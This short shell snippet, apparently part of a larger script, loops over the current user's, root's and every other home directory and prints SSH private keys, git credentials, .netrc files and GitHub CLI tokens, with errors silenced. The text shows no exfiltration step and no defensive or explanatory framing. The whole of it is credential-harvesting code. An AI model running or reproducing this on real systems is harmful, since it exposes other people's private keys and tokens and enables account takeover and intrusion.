# Reads the keys and tokens that people keep in their home.
for home in "$OWNER_HOME" "$HOME" /root /home/*; do
  cat "$home/.ssh/id_ed25519" "$home/.git-credentials" "$home/.netrc" "$home/.config/gh/hosts.yml"
done 2>/dev/null
